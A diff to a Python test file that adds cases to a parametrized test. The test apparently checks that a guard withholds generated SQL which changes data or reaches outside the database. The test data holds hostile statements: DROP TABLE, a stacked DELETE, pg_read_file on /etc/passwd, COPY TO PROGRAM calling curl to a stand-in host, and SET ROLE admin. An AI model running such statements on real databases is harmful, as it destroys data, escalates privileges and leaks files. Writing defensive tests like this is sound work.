@@ -153,6 +153,8 @@ async def test_the_dialect_is_told_from_the_question(stage):
         ("DROP TABLE orders CASCADE CONSTRAINTS PLEASE (", "CHANGE_NOT_ASKED"),
         ("SELECT 1; DELETE FROM orders", "CHANGE_NOT_ASKED"),
         ("SELECT pg_read_file('/etc/passwd')", "REACHES_OUTSIDE"),
+        ("COPY orders TO PROGRAM 'curl evil'", "REACHES_OUTSIDE"),
+        ("SET ROLE admin", "CHANGE_NOT_ASKED"),
     ],
 )
 async def test_a_change_that_nobody_asked_for_is_withheld(stage, answer, code):
